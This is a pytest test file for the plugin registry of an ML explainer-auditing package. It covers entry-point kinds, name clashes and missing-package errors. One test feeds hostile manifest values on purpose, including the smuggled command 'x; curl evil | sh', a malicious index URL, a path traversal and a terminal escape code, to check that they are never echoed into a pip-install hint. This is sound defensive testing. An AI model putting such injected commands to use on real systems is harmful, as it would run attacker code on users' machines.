"""The table of kinds: ours, those of installed packages, and what is said where a package is missing."""

import json
import sys
from importlib.metadata import EntryPoint

import pytest
import torch

from auditor.errors import ArtifactError, OptionError
from auditor.explainers import kinds
from auditor.explainers.base import Explainer, explainer_class, fit
from auditor.explainers.explanation import Explanation, class_scores

OURS = ["nmf", "coupled", "xnn", "tree", "deepfacto", "rde"]


class MeanLogit(Explainer):
    """The smallest kind there can be: the logit is its mean over the data and a residual."""

    kind = "mean-logit"

    def fit(self, subject, data, progress=None):
        with torch.no_grad():
            self.mean_ = torch.cat([subject.logits(b.images) for b in data.batches(subject, 16)]).mean(0)
        self.record_fit(subject, data, None)
        return self

    def explain(self, subject, images, target=None):
        self.check_subject(subject)
        logits = subject.logits(subject.pixels(images))
        targets = self.targets_for(subject, logits, target)
        predictions, expected = class_scores(logits, subject.class_names, targets)
        return [
            Explanation(
                self.kind,
                p,
                t,
                t.logit,
                (),
                bias=float(self.mean_[t.index]),
                residual=t.logit - float(self.mean_[t.index]),
            )
            for p, t in zip(predictions, expected, strict=True)
        ]

    def tensors(self):
        return {"mean": self.mean_}

    def restore(self, tensors, state, files):
        self.mean_ = tensors["mean"]


class Package:
    """A distribution as far as the table looks at it."""

    def __init__(self, name):
        self.metadata = {"Name": name}


@pytest.fixture
def installed(monkeypatch):
    """Give a function that announces entry points of made-up packages."""

    def announce(*entries):
        points = []
        for name, value, package in entries:
            point = EntryPoint(name, value, kinds.GROUP)
            vars(point).update(dist=Package(package))
            points.append(point)
        monkeypatch.setattr(kinds, "entry_points", lambda group: points if group == kinds.GROUP else [])
        kinds.forget_installed()

    yield announce
    monkeypatch.undo()
    kinds.forget_installed()


HERE = f"{__name__}:MeanLogit"


def test_ours_come_from_this_package(installed):
    installed()
    assert [k.name for k in kinds.installed_kinds()] == OURS
    for kind in kinds.installed_kinds():
        assert (kind.package, kind.provider()) == ("mlflow-auditor", None)
        assert explainer_class(kind.name).kind == kind.name


def test_a_package_adds_a_kind_that_is_fitted_saved_and_loaded(installed, tiny, tiny_npz, tmp_path):
    from auditor import open_data

    installed(("mean-logit", HERE, "mean-kinds"))
    explainer = fit("mean-logit", tiny, open_data(tiny_npz))
    explainer.save(tmp_path / "a")
    assert json.loads((tmp_path / "a" / "manifest.json").read_text())["provider"]["package"] == "mean-kinds"
    images = torch.rand(3, 1, 13, 17, generator=torch.Generator().manual_seed(0))
    loaded = Explainer.load(tmp_path / "a", tiny)
    for before, after in zip(explainer.explain(tiny, images), loaded.explain(tiny, images), strict=True):
        assert after.gap() < 1e-6
        assert after.bias == before.bias

    installed()  # uninstalled again
    with pytest.raises(
        ArtifactError, match=r"kind 'mean-logit' comes from the package mean-kinds, .* pip install mean-kinds\.$"
    ):
        Explainer.load(tmp_path / "a", tiny)
    with pytest.raises(ArtifactError, match=r"unknown explainer kind 'mean-logit'; the kinds are nmf, coupled"):
        explainer_class("mean-logit")


@pytest.mark.parametrize(
    "package", ["x; curl evil | sh", "--index-url=http://evil", "../up", "a\nb", "", None, 3.5, "é", "x" * 101, "-r"]
)
def test_a_package_name_in_a_manifest_is_printed_only_when_it_can_be_one(installed, package):
    installed()
    with pytest.raises(ArtifactError) as caught:
        explainer_class("other", {"package": package, "version": "1.0\x1b[31m"})
    text = str(caught.value)
    assert "pip install" not in text
    assert "evil" not in text
    assert "\x1b" not in text
    assert "'other'" in text
    with pytest.raises(ArtifactError, match=r"package fine-kinds, which is not installed here; if you trust it: pip"):
        explainer_class("other", {"package": "fine-kinds", "version": "1.0\x1b[31m"})


@pytest.mark.parametrize("kind", OURS)
def test_a_package_cannot_take_one_of_our_names(installed, kind):
    installed((kind, HERE, "impostor"))
    for ask in (lambda: explainer_class(kind), kinds.installed_kinds):
        with pytest.raises(
            OptionError, match=f"package impostor adds a kind called '{kind}', which is one of"
        ) as caught:
            ask()
        assert "\n" not in str(caught.value)


def test_two_packages_cannot_share_a_name(installed):
    installed(("mean-logit", HERE, "one"), ("mean-logit", "elsewhere:Other", "two"))
    with pytest.raises(OptionError, match="kind 'mean-logit' is added by one and two; uninstall all of them but one"):
        explainer_class("mean-logit")


@pytest.mark.parametrize("name", ["Upper", "a b", "9th", "x" * 41, "a/b"])
def test_a_kind_has_a_plain_name(installed, name):
    installed((name, HERE, "odd"))
    with pytest.raises(OptionError, match="a kind's name has 1 to 40 lower-case letters"):
        kinds.installed_kinds()


@pytest.mark.parametrize(
    ("value", "sentence"),
    [
        ("no.such.module:Class", "cannot be loaded from no.such.module:Class: ModuleNotFoundError"),
        (f"{__name__}:Nothing", "cannot be loaded from .*: AttributeError"),
        (f"{__name__}:Package", "must be a subclass of auditor.Explainer"),
        (f"{__name__}:OURS", "must be a subclass of auditor.Explainer"),
    ],
)
def test_a_kind_that_is_no_explainer_is_one_sentence(installed, value, sentence):
    installed(("broken", value, "broken-kinds"))
    with pytest.raises(ArtifactError, match=sentence):
        explainer_class("broken")


def test_the_class_says_the_name_it_is_announced_under(installed):
    installed(("other-name", HERE, "mean-kinds"))
    with pytest.raises(ArtifactError, match="whose kind is 'other-name'"):
        explainer_class("other-name")


def test_code_of_a_package_is_imported_when_its_kind_is_used(installed):
    installed(("lazy", "colorsys:nothing", "lazy-kinds"))
    sys.modules.pop("colorsys", None)
    assert "lazy" in [k.name for k in kinds.installed_kinds()]
    assert "colorsys" not in sys.modules


def test_the_command_lists_kinds_where_they_come_from_and_their_options(cli, installed):
    installed(("mean-logit", HERE, "mean-kinds"))
    rows = {row["kind"]: row for row in cli.json("kinds")}
    assert list(rows) == [*OURS, "mean-logit"]
    assert rows["mean-logit"]["package"] == "mean-kinds"
    assert set(rows["mean-logit"]["options"]) == {"layer", "target", "seed", "batch_size"}
    assert rows["nmf"]["options"]["epochs"]["default"] == 0
    assert "mean-kinds" in cli("kinds").stdout
    assert "Number of concepts" in cli("kinds", "nmf").stdout
    assert "unknown explainer kind 'absent'" in cli.fails("kinds", "absent")
